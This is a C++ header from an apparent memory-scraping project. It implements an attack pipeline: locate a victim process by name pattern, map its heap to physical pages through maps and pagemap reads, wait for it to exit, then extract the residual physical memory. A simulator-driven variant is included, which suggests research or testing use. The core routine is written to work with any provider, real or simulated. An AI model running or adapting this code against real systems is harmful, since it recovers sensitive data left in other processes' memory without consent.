#pragma once

#include <algorithm>
#include <functional>
#include <string>
#include <vector>

#include "memscrape/provider.hpp"
#include "memscrape/scenario.hpp"
#include "memscrape/scraper.hpp"

namespace memscrape {

struct AttackParams {
  std::string pattern;
  int poll_budget = 1000;
};

struct ScrapeArtifacts {
  int pid = 0;
  CaptureMap capture;
  ResidueDump dump;
};

/// Steps 1-3 against any provider: find the victim, capture its heap
/// translation while it runs, wait for it to die, then pull the residue.
/// `poll_hook` runs before every listing poll; the simulator driver uses it
/// to advance scripted time.
inline ScrapeArtifacts run_scrape(Provider& provider, const AttackParams& params,
                                  const std::function<void()>& poll_hook = {}) {
  ListingSource listing = [&] {
    if (poll_hook) poll_hook();
    return provider.list_processes();
  };

  const int pid = poll_for_pid(listing, params.pattern, params.poll_budget);

  const std::uint64_t page = provider.page_size();
  const std::string maps_text = provider.read_maps(pid);
  auto [heap_start, heap_end] = heap_range(parse_maps(maps_text, page));
  Bytes pagemap_bytes = provider.read_pagemap(pid, heap_start / page,
                                              (heap_end - heap_start) / page);
  CaptureMap cap = capture_address_map(maps_text, pagemap_bytes, page, pid);

  // Capture strictly precedes termination; extraction deliberately does not
  // care whether the victim is alive, because physical reads do not either.
  await_termination(listing, pid, params.poll_budget);

  ScrapeArtifacts art;
  art.pid = pid;
  art.capture = cap;
  art.dump = extract_residue(
      [&](std::uint64_t pa) { return provider.read_word(pa); }, cap, page);
  return art;
}

/// Scripted end-to-end run: one scenario event fires per poll attempt, so
/// the victim appears, gets captured, and dies under the attacker's polling
/// loop exactly as scripted.
inline ScrapeArtifacts run_attack(Simulator& sim,
                                  const std::vector<ScenarioEvent>& events,
                                  const AttackParams& params) {
  SimProvider provider(sim);
  ScenarioRunner runner(sim, events);
  AttackParams p = params;
  p.poll_budget = std::max<int>(p.poll_budget, static_cast<int>(events.size()) + 1);
  return run_scrape(provider, p, [&] { runner.step(); });
}

}  // namespace memscrape
